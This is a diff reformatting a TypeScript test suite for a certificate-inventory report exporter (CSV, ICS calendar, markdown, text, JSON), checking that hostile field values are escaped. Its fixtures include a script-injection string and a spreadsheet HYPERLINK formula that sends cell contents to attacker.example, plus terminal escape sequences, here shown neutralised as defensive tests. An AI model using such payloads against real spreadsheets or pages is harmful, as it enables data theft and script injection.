@@ -69,7 +69,10 @@ test('CSV: RFC 4180 parsed back — one row per certificate × location, every v
   const [head, ...rows] = parseCsv(csv);
   assert.deepEqual([...head], [...CSV_COLUMNS]);
   const col = (name: string): number => head.indexOf(name);
-  assert.equal(rows.length, report.certificates.reduce((n, c) => n + Math.max(1, c.locations.length), 0));
+  assert.equal(
+    rows.length,
+    report.certificates.reduce((n, c) => n + Math.max(1, c.locations.length), 0),
+  );
   for (const c of report.certificates.slice(0, 50)) {
     const mine = rows.filter((r) => r[col('fingerprint')] === c.fingerprint);
     assert.equal(mine.length, c.locations.length);
@@ -78,11 +81,15 @@ test('CSV: RFC 4180 parsed back — one row per certificate × location, every v
       assert.equal(r[col('serial')], c.serialNumber);
       assert.equal(r[col('not_after')], c.notAfter);
       assert.equal(Number(r[col('days_left')]), daysLeft(c, NOW));
-      const worst = c.findings.find((f) => !f.ignored && f.severity === 'error') ?? c.findings.find((f) => !f.ignored && f.severity === 'warning');
-      assert.equal(r[col('status')], worst?.id ?? (c.findings.find((f) => !f.ignored)?.id ?? 'ok'));
+      const worst =
+        c.findings.find((f) => !f.ignored && f.severity === 'error') ??
+        c.findings.find((f) => !f.ignored && f.severity === 'warning');
+      assert.equal(r[col('status')], worst?.id ?? c.findings.find((f) => !f.ignored)?.id ?? 'ok');
     }
     const places = mine.map((r) => `${r[col('location_type')]} ${r[col('location')]} ${r[col('address')]}`).sort();
-    const expected = c.locations.map((l) => (l.type === 'file' ? `file ${l.path}:${l.line} ` : `endpoint ${l.host}:${l.port} ${l.address ?? ''}`)).sort();
+    const expected = c.locations
+      .map((l) => (l.type === 'file' ? `file ${l.path}:${l.line} ` : `endpoint ${l.host}:${l.port} ${l.address ?? ''}`))
+      .sort();
     assert.deepEqual(places, expected);
   }
   // Negative days_left stay numbers: expired certificates are in the estate.
@@ -93,23 +100,34 @@ test('CSV: quotes, commas and newlines survive; cells that a spreadsheet would r
   const [head, ...rows] = parseCsv(renderInventory(report, 'csv'));
   const col = (name: string): number => head.indexOf(name);
   const script = rows.find((r) => r[col('name')].startsWith('<script>'))!;
-  assert.equal(script[col('subject')], 'CN=<script>document.title="pwned"</script><img src=x onerror=alert(1)>,O=Evil "Quotes" & Co');
+  assert.equal(
+    script[col('subject')],
+    'CN=<script>document.title="pwned"</script><img src=x onerror=alert(1)>,O=Evil "Quotes" & Co',
+  );
   assert.equal(script[col('location')], 'certs/a|b,"c".pem:7');
   assert.equal(script[col('owner')], `'=HYPERLINK("http://attacker.example/?x="&A1,"click")`);
   const text = rows.find((r) => r[col('name')].startsWith('pipe|'))!;
   assert.equal(text[col('name')], 'pipe|name; semi, comma \\ back\nnewline');
   assert.equal(text[col('owner')], "'+team|ops");
-  assert.equal(rows.find((r) => r[col('name')].startsWith('zertifikat'))![col('owner')], "'-sre \u001b[31mred\u001b[0m");
+  assert.equal(
+    rows.find((r) => r[col('name')].startsWith('zertifikat'))![col('owner')],
+    "'-sre \u001b[31mred\u001b[0m",
+  );
   // No cell anywhere begins with a formula trigger (numbers we computed excepted).
-  for (const r of rows) for (const [i, v] of r.entries()) if (head[i] !== 'days_left') assert.ok(!/^[=+\-@]/.test(v), `${head[i]}: ${v}`);
+  for (const r of rows)
+    for (const [i, v] of r.entries()) if (head[i] !== 'days_left') assert.ok(!/^[=+\-@]/.test(v), `${head[i]}: ${v}`);
 });
 
 /** RFC 5545 §3.1: unfold (CRLF followed by one space or tab continues the line). */
 function unfoldIcs(text: string): string[] {
   assert.ok(text.endsWith('\r\n'));
   assert.ok(!/[^\r]\n/.test(text), 'only CRLF line breaks');
-  for (const line of text.split('\r\n')) assert.ok(Buffer.byteLength(line, 'utf8') <= 75, `folded to 75 octets: ${line}`);
-  return text.replace(/\r\n[ \t]/g, '').split('\r\n').slice(0, -1);
+  for (const line of text.split('\r\n'))
+    assert.ok(Buffer.byteLength(line, 'utf8') <= 75, `folded to 75 octets: ${line}`);
+  return text
+    .replace(/\r\n[ \t]/g, '')
+    .split('\r\n')
+    .slice(0, -1);
 }
 
 function unescapeIcsText(v: string): string {
@@ -154,7 +172,10 @@ test('ICS: one VEVENT per certificate on the day it expires, parsed back after u
     assert.equal(e.DTSTAMP, '20261122T030000Z');
     const day = c.notAfter.slice(0, 10).replace(/-/g, '');
     assert.equal(e['DTSTART;VALUE=DATE'], day);
-    const next = new Date(Date.parse(c.notAfter.slice(0, 10)) + 86_400_000).toISOString().slice(0, 10).replace(/-/g, '');
+    const next = new Date(Date.parse(c.notAfter.slice(0, 10)) + 86_400_000)
+      .toISOString()
+      .slice(0, 10)
+      .replace(/-/g, '');
     assert.equal(e['DTEND;VALUE=DATE'], next, 'DTEND is the exclusive next day');
     assert.equal(e['VALARM.TRIGGER'], '-P30D');
   }
@@ -170,7 +191,10 @@ test('ICS: commas, semicolons, backslashes and newlines are escaped and read bac
   assert.equal(e.SUMMARY, 'Certificate expires: pipe|name\\; semi\\, comma \\\\ back\\nnewline');
   assert.equal(unescapeIcsText(e.SUMMARY), `Certificate expires: ${pipe.subjectCN}`);
   const description = unescapeIcsText(e.DESCRIPTION);
-  assert.match(description, /^Issuer: Example, Inc\. Issuing CA 1 \(CN=Example, Inc\. Issuing CA 1,O=Example, Inc\.,C=US\)$/m);
+  assert.match(
+    description,
+    /^Issuer: Example, Inc\. Issuing CA 1 \(CN=Example, Inc\. Issuing CA 1,O=Example, Inc\.,C=US\)$/m,
+  );
   assert.match(description, /^- pipe\.example\.com:8443$/m);
   assert.match(description, /^Owner: \+team\|ops$/m);
   // An unescaped , or ; would split the value for a reader: none remain outside escapes.
@@ -180,7 +204,10 @@ test('ICS: commas, semicolons, backslashes and newlines are escaped and read bac
 test('ICS: folding counts octets and never splits a UTF-8 character', () => {
   const events = vevents(unfoldIcs(renderInventory(report, 'ics')));
   const u = report.certificates.find((c) => c.subjectCN?.startsWith('zertifikat'))!;
-  assert.equal(unescapeIcsText(events.find((x) => x.UID.startsWith(u.fingerprint))!.SUMMARY), `Certificate expires: ${u.subjectCN}`);
+  assert.equal(
+    unescapeIcsText(events.find((x) => x.UID.startsWith(u.fingerprint))!.SUMMARY),
+    `Certificate expires: ${u.subjectCN}`,
+  );
   for (let n = 60; n < 200; n += 7) {
     const line = 'X:' + '日本€ü'.repeat(n).slice(0, n);
     const folded = fold(line);
@@ -191,7 +218,16 @@ test('ICS: folding counts octets and never splits a UTF-8 character', () => {
 
 test('markdown: groups, concentration, drift and certificates as GFM tables; a | in a name cannot add a column', () => {
   const md = renderInventory(report, 'markdown');
-  for (const h of ['### By issuing CA', '### By root', '### By owner', '### By key type', '### Concentration', '### Drift', '### Certificates']) assert.ok(md.includes(h), h);
+  for (const h of [
+    '### By issuing CA',
+    '### By root',
+    '### By owner',
+    '### By key type',
+    '### Concentration',
+    '### Drift',
+    '### Certificates',
+  ])
+    assert.ok(md.includes(h), h);
   // Count cells the way GFM splits a row: on every | that is not escaped.
   const cellCount = (row: string): number => row.replace(/\\\\/g, '').split(/(?<!\\)\|/).length - 2;
   let columns = 0;
@@ -201,14 +237,18 @@ test('markdown: groups, concentration, drift and certificates as GFM tables; a |
       columns = 0;
       continue;
     }
-    if (columns === 0) columns = cellCount(line); // the header row
+    if (columns === 0)
+      columns = cellCount(line); // the header row
     else assert.equal(cellCount(line), columns, line), checked++;
   }
   assert.ok(checked > report.certificates.length);
   assert.ok(md.includes('pipe\\|name; semi, comma \\\\ back newline'), 'pipe escaped, newline flattened');
   assert.ok(md.includes('&lt;script&gt;'), 'markup shown as text');
   assert.ok(!md.includes('<script>'));
-  const certRows = md.slice(md.indexOf('### Certificates')).split('\n').filter((l) => l.startsWith('| ') && !l.startsWith('| Status') && !l.startsWith('| ---'));
+  const certRows = md
+    .slice(md.indexOf('### Certificates'))
+    .split('\n')
+    .filter((l) => l.startsWith('| ') && !l.startsWith('| Status') && !l.startsWith('| ---'));
   assert.equal(certRows.length, report.certificates.length);
 });
 
@@ -220,7 +260,8 @@ test('text: aligned columns, colour only when asked, terminal escapes in names n
   const start = lines.findIndex((l) => l.startsWith('Certificates'));
   const table = lines.slice(start + 1, start + 1 + report.certificates.length + 1);
   const daysCol = table[0].indexOf('DAYS LEFT') + 'DAYS LEFT'.length;
-  for (const l of table.slice(1)) assert.match(l.slice(daysCol - 4, daysCol), /^ *-?\d+$/, `right-aligned days left: ${l}`);
+  for (const l of table.slice(1))
+    assert.match(l.slice(daysCol - 4, daysCol), /^ *-?\d+$/, `right-aligned days left: ${l}`);
   assert.ok(plain.includes("If R11 (Let's Encrypt) revoked everything today:"));
   const coloured = renderInventory(report, 'text', { color: true });
   assert.ok(coloured.includes('\u001b[31m'));
@@ -236,5 +277,8 @@ test('json: the filtered report plus inventory.groups/concentration/drift', () =
   assert.ok(parsed.inventory.concentration.length > 0);
   assert.ok(Array.isArray(parsed.inventory.drift));
   assert.equal(parsed.inventory.forecast.length, 14);
-  assert.equal(parsed.certificates.find((c: { subjectCN: string }) => c.subjectCN.startsWith('<script>')).subjectCN, report.certificates.find((c) => c.subjectCN?.startsWith('<script>'))!.subjectCN);
+  assert.equal(
+    parsed.certificates.find((c: { subjectCN: string }) => c.subjectCN.startsWith('<script>')).subjectCN,
+    report.certificates.find((c) => c.subjectCN?.startsWith('<script>'))!.subjectCN,
+  );
 });
